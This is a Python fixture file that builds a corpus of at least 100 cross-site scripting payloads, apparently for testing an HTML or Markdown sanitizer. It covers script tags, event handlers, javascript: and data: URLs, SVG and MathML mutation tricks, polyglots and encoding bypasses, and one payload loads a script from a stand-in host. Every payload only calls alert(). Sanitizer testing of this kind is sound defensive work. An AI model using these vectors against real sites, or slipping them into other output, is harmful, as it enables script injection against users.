"""At least 100 XSS payloads: script tags, event handlers, javascript: and data: URLs, SVG and
MathML, mutation XSS, polyglots, and Markdown-specific tricks. Each one calls alert() if it runs."""

from __future__ import annotations

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>X</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href='JaVaScRiPt:alert(1)'>klik</a>",
    "<a href=&#106;avascript:alert(1)>klik</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>klik</a>",
    "<a href=' javascript:alert(1)'>klik</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    (
        "<form><math><mtext></form><form><mglyph><svg><mtext><textarea>"
        '<path id="</textarea><img onerror=alert(1) src=1>">'
    ),
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e"
    ),
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[klik](javascript:alert(1))",
    "[klik](JAVASCRIPT:alert(1))",
    "[klik](data:text/html,<script>alert(1)</script>)",
    "[klik](vbscript:alert(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<x onclick=alert(1)>klik</x>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>",
    "{{7*7}}<script>alert(1)</script>",
    "${alert(1)}",
    '<img src="x"\x00onerror="alert(1)">',
    "<p onmouseover=alert(1)>beweeg</p>",
]
WRAPPERS = ["{}", "tekst {} tekst", "{}\n{}", "<p>{}</p>"]


def corpus() -> list[str]:
    payloads = list(BASE)
    for wrapper in WRAPPERS[1:]:
        for base in BASE[:12]:
            payloads.append(wrapper.replace("{}", base))
    assert len(payloads) >= 100
    return payloads
